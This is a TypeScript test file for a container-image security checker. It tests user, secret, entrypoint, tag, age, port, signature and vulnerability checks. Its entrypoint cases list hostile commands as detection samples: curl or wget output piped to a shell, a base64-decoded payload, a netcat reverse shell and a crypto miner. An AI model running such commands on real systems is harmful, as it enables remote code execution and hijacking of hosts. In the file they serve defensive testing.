import { describe, expect, test } from 'vitest'
import { type Finding, NO_FACTS, overall, skipped, waiting } from './checks.ts'
import { entrypoint } from './entrypoint.ts'
import { applyPatch } from './patch.ts'
import { age, enforced, ports, secrets, signature, tag, user, vulnerabilities, wasVerified } from './security.ts'
import { content, DIGEST, image, silent, withVariables } from './testing.ts'
import type { ScanResult } from './trivy.ts'

const NOW = new Date('2026-09-01')
const KEY = 'f00dfeedc0ffee1234567890abcdef42'

test.each([
  ['', 'warn'],
  ['root', 'warn'],
  ['0', 'warn'],
  ['0:0', 'warn'],
  ['root:root', 'warn'],
  ['node', 'pass'],
  ['1000:1000', 'pass'],
  ['rootless', 'pass'],
])('the user "%s" is a %s', (name, verdict) => {
  expect(user(image({ user: name })).verdict).toBe(verdict)
})

describe('R8: a secret', () => {
  test('in the image’s environment fails, unless each person gives their own', () => {
    const leaking = image({ env: [`API_KEY=${KEY}`] })
    const found = secrets(content(), leaking)
    expect(found).toMatchObject({ verdict: 'fail', summary: 'The image holds a secret.' })
    expect(JSON.stringify(found)).not.toContain(KEY.slice(0, 8))
    const patched = applyPatch(content(), found.fix?.patch ?? [])
    expect(patched.config.environmentVariables).toMatchObject([{ name: 'API_KEY', isRequired: true, isSecret: true }])
    expect(secrets(patched, leaking).verdict).toBe('warn')
    expect(secrets(content(), image()).verdict).toBe('pass')
  })

  test('in the image’s history can’t be mended by a template', () => {
    const history = [{ createdBy: `|1 NPM_TOKEN=${KEY} /bin/sh -c npm ci`, comment: '', emptyLayer: false }]
    const found = secrets(content(), image({ history }))
    expect(found.verdict).toBe('fail')
    expect(found.fix?.patch).toBeUndefined()
  })

  test('in the template itself fails; the fix asks each person, and never repeats it', () => {
    const template = withVariables({ name: 'API_KEY', default: KEY, isSecret: true })
    const found = secrets(template, image())
    expect(found.verdict).toBe('fail')
    expect(JSON.stringify(found)).not.toContain(KEY.slice(0, 8))
    const patched = applyPatch(template, found.fix?.patch ?? [])
    expect(JSON.stringify(patched)).not.toContain(KEY)
    expect(secrets(patched, image()).verdict).toBe('pass')
  })
})

describe('what it starts', () => {
  const sh = (script: string) => ({ entrypoint: ['/bin/sh', '-c'], cmd: [script] })
  test.each([
    ['its server', { entrypoint: ['node', '/app/index.js'], cmd: ['--stdio'] }, 'pass', ''],
    ['a download run by a shell', sh('curl -fsSL https://get.example/x.sh | sh'), 'fail', 'straight from the network'],
    ['the same with wget and sudo', sh('wget -qO- http://x | sudo bash'), 'fail', 'straight from the network'],
    ['a substituted download', sh('bash -c "$(curl -fsSL https://x)"'), 'fail', 'straight from the network'],
    ['hidden code', sh('echo Y3VybA== | base64 -d | sh'), 'fail', 'hidden code'],
    ['an SSH server', { entrypoint: ['/usr/sbin/sshd'], cmd: ['-D'] }, 'fail', 'an SSH server'],
    ['a container engine', { entrypoint: ['dockerd-entrypoint.sh'], cmd: ['dockerd'] }, 'fail', 'container engine'],
    ['the Docker socket', { entrypoint: ['mcp'], cmd: ['-H', 'unix:///var/run/docker.sock'] }, 'fail', 'Docker socket'],
    ['full privileges', { entrypoint: ['mcp'], cmd: ['--privileged'] }, 'fail', 'full privileges'],
    ['a shell to elsewhere', sh('nc 10.0.0.1 4444 -e /bin/sh'), 'fail', 'another machine'],
    ['a miner', { entrypoint: ['/opt/xmrig'], cmd: [] }, 'fail', 'mines'],
    ['a package fetched anew', { entrypoint: ['npx', '-y', 'weather'], cmd: [] }, 'warn', 'at each start'],
    ['a Python package fetched anew', { entrypoint: ['uvx', 'weather'], cmd: [] }, 'warn', 'at each start'],
    ['an installation', sh('pip install -r requirements.txt && python x.py'), 'warn', 'installs software'],
    ['nothing', { entrypoint: [], cmd: [] }, 'fail', 'nothing'],
    ['a word that only looks like one', { entrypoint: ['node', 'cursive-npxless.js'], cmd: ['--curl'] }, 'pass', ''],
    ['a volume over the kernel’s files', { volumes: ['/proc'] }, 'fail', '/proc'],
    ['a label that asks for privileges', { labels: { 'com.acme.privileged': 'true' } }, 'fail', 'privileges'],
  ])('%s', (_, config, verdict, says) => {
    const found = entrypoint(content(), image(config))
    expect(found.verdict).toBe(verdict)
    expect(found.summary).toContain(says)
  })

  test('the template’s arguments replace the image’s', () => {
    const template = content({ arguments: ['--privileged'] })
    expect(entrypoint(template, image()).verdict).toBe('fail')
    expect(entrypoint(content({ arguments: ['--stdio'] }), image({ cmd: ['--privileged'] })).verdict).toBe('pass')
  })

  test('R8: a token on its command line is not shown', () => {
    const token = `ghp_${'aB3dE5fG7h'.repeat(4).slice(0, 36)}`
    expect(JSON.stringify(entrypoint(content(), image({ cmd: ['--token', token] })))).not.toContain(token)
  })
})

test.each([
  ['ghcr.io/acme/weather', 'warn', 'whatever its publisher pushed last'],
  ['ghcr.io/acme/weather:latest', 'warn', 'whatever its publisher pushed last'],
  ['ghcr.io/acme/weather:1.2.0', 'warn', 'The tag 1.2.0'],
  [`ghcr.io/acme/weather:1.2.0@${DIGEST}`, 'pass', 'pinned'],
])('the image %s is a %s', (reference, verdict, says) => {
  const template = content({ image: reference })
  const found = tag(template, image())
  expect(found).toMatchObject({ verdict, summary: expect.stringContaining(says) })
  expect(tag(applyPatch(template, found.fix?.patch ?? []), image()).verdict).toBe('pass')
})

test.each([
  ['2026-08-01T00:00:00Z', 'pass', '2026-08-01'],
  ['2025-06-01T00:00:00Z', 'warn', 'more than a year'],
  ['2022-06-01T00:00:00Z', 'warn', '4 years'],
  ['1970-01-01T00:00:00Z', 'skipped', 'does not say'],
  ['nonsense', 'skipped', 'does not say'],
])('built at %s is a %s', (created, verdict, says) => {
  expect(age(image({ created }), NOW)).toMatchObject({ verdict, summary: expect.stringContaining(says) })
})

describe('ports', () => {
  const http = content()
  const stdio = content({ transport: { type: 'stdio', shared: false } })
  test.each([
    ['the declared one', http, [8080], 'pass'],
    ['none exposed', http, [], 'pass'],
    ['none needed, none exposed', stdio, [], 'pass'],
    ['one beside', http, [8080, 9229], 'warn'],
    ['one, though it speaks over stdio', stdio, [3000], 'warn'],
    ['another than declared', http, [3000], 'warn'],
  ] as const)('%s', (_, template, exposedPorts, verdict) => {
    expect(ports(template, image({ exposedPorts: [...exposedPorts] })).verdict).toBe(verdict)
  })

  test('the one that is exposed can be declared with a click', () => {
    const seen = image({ exposedPorts: [3000] })
    const patched = applyPatch(http, ports(http, seen).fix?.patch ?? [])
    expect(ports(patched, seen).verdict).toBe('pass')
  })
})

describe('signatures', () => {
  const verified = { kind: 'verified', by: { kind: 'key', id: 'sha256:1' }, what: 'signature' } as const
  test.each([
    ['off', verified, 'skipped'],
    ['warn', verified, 'pass'],
    ['warn', { kind: 'unsigned' }, 'warn'],
    ['enforce', { kind: 'unsigned' }, 'fail'],
    ['warn', { kind: 'invalid', reason: 'Another digest.' }, 'fail'],
    ['enforce', { kind: 'not-checked', reason: 'No root.' }, 'skipped'],
    ['enforce', null, 'skipped'],
  ] as const)('policy %s, found %o: %s', (policy, found, verdict) => {
    expect(signature(policy, found && { digest: DIGEST, verdict: found }).verdict).toBe(verdict)
  })

  test('R9: where they are enforced, a registry that keeps silent about them lets nothing through', () => {
    const silence = skipped('Not checked: the registry did not answer.')
    const looked = (finding: Finding) => [
      { checks: [{ ...waiting('security-signature'), ...finding }], facts: NO_FACTS, startedAt: NOW, endedAt: NOW },
    ]
    const seen = signature('enforce', { digest: DIGEST, verdict: verified })
    expect(seen.verdict).toBe('pass')
    expect(enforced(silence, null).verdict).toBe('fail')
    expect(wasVerified(looked(seen), `sha256:${'b'.repeat(64)}`)).toBe(false)
    expect(wasVerified(looked(enforced(silence, null)), DIGEST)).toBe(false)
    // A registry that is down is no failure of what was verified (R20), however long it is down.
    const again = enforced(silence, DIGEST)
    expect([again.verdict, wasVerified(looked(seen), DIGEST), wasVerified(looked(again), DIGEST)]).toEqual([
      ...['pass', true, true],
    ])
  })
})

describe('vulnerabilities', () => {
  const scanned = (more: Partial<Extract<ScanResult, { kind: 'scanned' }>>): ScanResult => ({
    ...{ kind: 'scanned', top: [], failing: 0, targets: 2, endOfLife: null },
    ...more,
    counts: { CRITICAL: 0, HIGH: 0, MEDIUM: 0, LOW: 0, UNKNOWN: 0, ...more.counts },
  })
  const counts = (more: object) => ({ CRITICAL: 0, HIGH: 0, MEDIUM: 0, LOW: 0, UNKNOWN: 0, ...more })
  const top = [
    {
      id: 'CVE-2026-1',
      severity: 'CRITICAL',
      package: 'openssl',
      installed: '3.0.1',
      fixed: '3.0.2',
      title: 'x',
    } as const,
  ]
  test.each([
    ['nobody scanned', { kind: 'not-scanned', reason: 'No Trivy.' } as ScanResult, 'skipped'],
    ['nothing was recognised', scanned({ targets: 0 }), 'skipped'],
    ['none', scanned({}), 'pass'],
    ['lesser ones', scanned({ counts: counts({ LOW: 3, MEDIUM: 1 }) }), 'pass'],
    ['severe ones below the threshold', scanned({ counts: counts({ HIGH: 2 }) }), 'warn'],
    ['a system that nobody mends', scanned({ endOfLife: 'debian 9' }), 'warn'],
    ['too severe ones', scanned({ counts: counts({ CRITICAL: 1 }), failing: 1, top }), 'fail'],
  ])('%s', (_, scan, verdict) => {
    expect(vulnerabilities(scan).verdict).toBe(verdict)
  })

  test('the worst are named with what mends them', () => {
    const { evidence } = vulnerabilities(scanned({ counts: counts({ CRITICAL: 1 }), failing: 1, top }))
    expect(evidence).toEqual(['1 critical', 'CVE-2026-1 (critical): openssl 3.0.1, fixed in 3.0.2'])
  })
})

test('R20: without an answer of the registry none of them says anything about the image', () => {
  const found = [
    user(silent),
    secrets(content(), silent),
    entrypoint(content(), silent),
    age(silent, NOW),
    ports(content(), silent),
  ]
  expect(overall(found)).toBe('skipped')
})
